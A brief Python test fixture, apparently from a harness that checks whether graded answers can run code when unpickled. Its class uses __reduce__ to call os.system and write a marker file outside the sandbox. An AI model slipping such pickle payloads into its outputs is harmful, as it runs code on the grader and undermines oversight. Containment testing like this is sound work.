# family: pickles
# tries: an answer that runs code where it is unpickled
# witness: the file
# %%
import os, pickle
class Bomb:
    def __reduce__(self):
        return (os.system, (f"touch {OUTSIDE}/was-here",))
calls = []
def causal_pattern(scores):
    calls.append(1)
    return Bomb() if len(calls) == 1 else pickle.dumps(Bomb())
